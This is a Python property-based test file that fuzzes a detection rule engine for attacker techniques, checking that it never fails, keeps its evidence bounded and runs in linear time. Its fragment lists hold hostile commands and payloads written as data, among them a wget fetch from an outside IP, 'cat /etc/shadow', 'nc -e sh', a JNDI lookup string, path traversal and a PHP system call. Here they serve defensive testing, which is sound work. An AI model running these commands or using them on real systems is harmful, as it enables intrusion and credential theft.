# SPDX-License-Identifier: AGPL-3.0-or-later
"""No payload makes the rule engine fail, leave its evidence's bounds, or take long."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_ttp.attack import Catalogue, load_catalogue
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.vocabulary import Vocabulary
from decnet_ttp.tagger.evaluation import Evaluation
from decnet_ttp.tagger.lifters.rule_engine import RuleEngine
from decnet_ttp.tagger.rule_set import RuleSet
from decnet_ttp.v1 import event_pb2, rule_pb2, tagger_service_pb2
from matching.builders import command, field, request, rule, some

RULES = Path(__file__).parents[2] / "rules" / "ttp"
PIECES = (
    "wget http://198.51.100.7/x", "cat /etc/shadow", "nc -e sh", "${jndi:ldap://x}", "../../",
    "find / -perm -4000", "sudo su", "'", '"', "$(", ")", "`", "\\", "\n", ";", "|", "&&", ">",
    "%2e%2e%2f", "%", "\x00", "é", "\U0001f600", "\u202e", " ", "<?php system(", ".php",
)  # fmt: skip

TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=30).map("".join)
JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False, allow_infinity=False) | TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4),
    max_leaves=12,
)


def _reading_everything() -> rule_pb2.Rule:
    """A rule that reads what producers send beside the typed fields, in every way there is."""
    compare = rule_pb2.NumericComparison(gt=0)
    return rule(
        "X1",
        some(
            field("extra.a", "a.b", pattern="[a-z]"),
            field("extra.a", "a.b.c", contains=["e"], ignore_case=True),
            field("a", "b", equals=["1"]),
            field("a", compare=compare),
            field("a", cidr=["198.51.100.0/24", "::/0"]),
            field("a", is_bool=True),
        ),
        "command",
        "http_request",
        "unheard_of",
    )


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    catalogue: Catalogue = load_catalogue()
    pack = load_pack([RULES], Vocabulary(catalogue), with_examples=False)
    shipped = [each.message for each in pack.rules]
    return RuleSet.empty().changed([*shipped, _reading_everything()], (), [RuleEngine()], catalogue)


async def tag(rules: RuleSet, event: event_pb2.Event) -> tagger_service_pb2.TagEventsResponse:
    batch = tagger_service_pb2.TagEventsRequest(
        groups=[event_pb2.EventGroup(origin_id="o", events=[event])]
    )
    answer = await Evaluation([RuleEngine()], attack_release="enterprise-v17.1").tag(batch, rules)
    assert not answer.failures
    return answer


@given(text=TEXTS, extra=st.dictionaries(st.sampled_from(["a", "b", "a.b"]), JSON, max_size=3))
async def test_any_command_is_tagged_without_failure(
    rules: RuleSet, text: str, extra: dict[str, Any]
) -> None:
    event = command(text)
    event.extra.update(extra)
    for group in (await tag(rules, event)).groups:
        for made in group.tags:
            evidence = made.evidence.command
            assert evidence.command_text == text[:2_048]
            assert all(len(token) <= 256 for token in evidence.matched_tokens)
            assert len(evidence.matched_tokens) == len(evidence.rule_patterns)


@given(url=TEXTS, agent=TEXTS, body=TEXTS, headers=st.dictionaries(TEXTS, TEXTS, max_size=3))
async def test_any_request_is_tagged_without_failure(
    rules: RuleSet, url: str, agent: str, body: str, headers: dict[str, str]
) -> None:
    event = request(raw_url=url, user_agent=agent, body=body, headers=headers)
    for group in (await tag(rules, event)).groups:
        for made in group.tags:
            assert sorted(headers)[:64] == [
                name for name in made.evidence.http_request.header_names if name in headers
            ]


@given(payload=st.dictionaries(st.sampled_from(["a", "b", "a.b"]), JSON, max_size=4))
async def test_any_unheard_of_kind_is_tagged_without_failure(
    rules: RuleSet, payload: dict[str, Any]
) -> None:
    event = event_pb2.Event(source_kind="unheard_of", source_id="x")
    event.other.update(payload)
    await tag(rules, event)


@pytest.mark.parametrize(
    "bait",
    [
        "echo <?php>.", "-wget ", "cat ", "redis ", "rpcclient ", "useradd -", "find -perm ",
        "$(", '"$(', "curl -s a. ", "%2e%2e%2f", "${lower:", "é",
    ],
)  # fmt: skip
async def test_a_mebibyte_of_bait_is_evaluated_in_proportion(rules: RuleSet, bait: str) -> None:
    """Measured below 50 ms; the bound leaves room for a busy machine and none for a square."""
    text = bait * (2**20 // len(bait))
    for event in (command(text), request(raw_url=text, user_agent=text, body=text)):
        began = time.process_time()
        await tag(rules, event)
        assert time.process_time() - began < 3.0


async def test_ten_thousand_members_of_a_list_are_read_in_proportion(rules: RuleSet) -> None:
    event = command("ls")
    event.extra.update({"a": ["198.51.100.7"] * 10_000})
    began = time.process_time()
    answer = await tag(rules, event)
    assert time.process_time() - began < 3.0
    assert [each.rule_id for each in answer.groups[0].tags] == ["X1"]
